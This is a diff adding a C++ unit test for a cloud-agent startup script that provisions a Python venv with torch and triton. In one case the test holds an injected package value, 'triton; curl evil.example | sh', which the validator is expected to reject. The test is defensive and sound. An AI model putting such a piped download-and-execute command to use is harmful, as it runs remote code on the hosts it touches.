@@ -152,6 +152,46 @@ TEST(GceConfig, TheStartupScriptDeliversTheCaAndTheTokenAs0600Files) {
   EXPECT_EQ(plain.find("\nKFLEET_CA_FILE="), std::string::npos);
 }
 
+// Cloud agents get a Python with torch and triton for Triton and torch kernels: a venv made before
+// the agents start, named to them as KFLEET_PYTHON; python_packages: [] makes none, and a package
+// that is not a plain pip requirement (it lands in the script) is refused.
+TEST(GceConfig, TheStartupScriptGivesTheAgentsAPythonWithTorchAndTriton) {
+  auto c = gce_config_from_json(minimal());
+  ASSERT_TRUE(c.ok()) << c.error().message;
+  EXPECT_EQ(c->python_packages, (std::vector<std::string>{"torch", "triton", "ninja"}));
+  const std::string s = gce_startup_script(*c, "us-central1-a");
+  const auto env_at = s.find("cat > /etc/kfleet/agent.env <<ENV\n");
+  const auto env_end = s.find("\nENV\nchmod 0600 /etc/kfleet/agent.env\n");
+  ASSERT_NE(env_end, std::string::npos) << s;
+  EXPECT_NE(s.substr(env_at, env_end - env_at).find("\nKFLEET_PYTHON=/opt/kfleet-python/bin/python3"),
+            std::string::npos)
+      << s;
+  const auto venv = s.find("python3 -m venv --clear \"$py_venv\"");
+  const auto pip = s.find("/bin/pip\" install --quiet --no-cache-dir 'torch' 'triton' 'ninja'; then");
+  const auto start = s.find("systemctl enable --now \"kfleet-agent@$gpu.service\"");
+  ASSERT_NE(venv, std::string::npos) << s;
+  ASSERT_NE(pip, std::string::npos) << s;
+  EXPECT_LT(venv, pip);
+  EXPECT_LT(pip, start) << "the agents find their Python once, at start";
+  EXPECT_NE(s.find("these agents run CUDA jobs only"), std::string::npos) << s;
+
+  auto j = minimal();
+  j["python_packages"] = json::array();
+  auto none = gce_config_from_json(j);
+  ASSERT_TRUE(none.ok());
+  EXPECT_FALSE(gce_config_problem(*none).has_value());
+  const std::string plain = gce_startup_script(*none, "us-central1-a");
+  EXPECT_EQ(plain.find("KFLEET_PYTHON"), std::string::npos);
+  EXPECT_EQ(plain.find("/opt/kfleet-python"), std::string::npos);
+
+  j["python_packages"] = {"torch==2.9.0", "triton; curl evil.example | sh"};
+  auto bad = gce_config_from_json(j);
+  ASSERT_TRUE(bad.ok());
+  auto why = gce_config_problem(*bad);
+  ASSERT_TRUE(why.has_value());
+  EXPECT_NE(why->find("python_packages: 'triton; curl evil.example | sh'"), std::string::npos) << *why;
+}
+
 // Both systemd units start the agent with no token on its command line: the agent reads the
 // enrolment token from its own 0600 file (--enrol-token-file), never from its environment or argv.
 TEST(AgentUnits, NoTokenOnTheCommandLine) {
